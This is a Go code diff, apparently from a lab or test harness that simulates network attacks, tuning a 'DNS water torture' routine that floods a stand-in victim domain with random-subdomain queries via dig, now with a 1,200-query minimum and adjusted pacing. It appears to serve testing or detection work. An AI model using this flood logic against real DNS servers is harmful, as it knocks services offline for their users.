@@ -6,7 +6,6 @@ import (
 	"math/rand/v2"
 	"os"
 	"strings"
-	"syscall"
 	"time"
 )
 
@@ -187,7 +186,10 @@ const (
 	tortureBots       = 30
 	tortureFirstOctet = 200
 	tortureRate       = 150
-	tortureDomain     = "victim-dns.example"
+	// tortureMin is the fewest queries a run sends (faster, when its
+	// --duration is short): a flood is 1,000 or more.
+	tortureMin    = 1200
+	tortureDomain = "victim-dns.example"
 )
 
 // tortureAddrs are the attacker's addresses in the water torture: its own
@@ -212,7 +214,7 @@ func tortureAttack(a *attackRun) error {
 	}
 	rng := rand.New(rand.NewPCG(uint64(a.now().Unix()), 0x746f72))
 	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
-	lines := make([]string, count(tortureRate, a.duration*4/5))
+	lines := make([]string, max(count(tortureRate, a.duration*4/5), tortureMin))
 	for i := range lines {
 		label := make([]byte, 24+rng.IntN(9))
 		for j := range label {
@@ -222,16 +224,12 @@ func tortureAttack(a *attackRun) error {
 	}
 	fifo := a.w.path("torture/names")
 	if !a.dryRun {
-		if err := os.MkdirAll(a.w.path("torture"), 0o755); err != nil {
+		if err := a.makeFIFO(fifo); err != nil {
 			return err
-		}
-		_ = os.Remove(fifo)
-		if err := syscall.Mkfifo(fifo, 0o600); err != nil {
-			return fmt.Errorf("dns-water-torture: %w", err)
 		}
 	}
 	dig := []string{"dig", "-f", fifo, "+tries=1", "+time=1", "+noall", "@" + hostServer.IPv4().String()}
 	return a.phase("random-subdomain queries", func() error {
-		return a.feed(hostAtk, dig, fifo, lines, time.Second/tortureRate)
+		return a.feed(hostAtk, dig, fifo, lines, min(time.Second/tortureRate, a.duration*4/5/time.Duration(len(lines))))
 	})
 }
